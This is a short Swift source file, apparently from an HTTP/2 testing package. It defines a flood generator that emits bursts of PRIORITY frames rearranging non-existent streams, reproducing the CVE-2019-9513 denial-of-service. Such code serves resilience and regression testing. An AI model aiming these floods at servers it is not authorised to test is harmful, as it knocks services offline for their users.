/// PRIORITY frames that rearrange a tree of streams that do not exist (CVE-2019-9513).
package struct Priorities: Flood {
  /// The flood.
  package init() {}

  package func burst(_ turn: Int) -> [UInt8] {
    repeating(turn) { number in
      RawFrame.frame(
        type: RawFrame.priority, flags: 0, stream: RawFrame.stream(number % 1000 + 1),
        RawFrame.bigEndian(RawFrame.stream(0)) + [16])
    }
  }
}
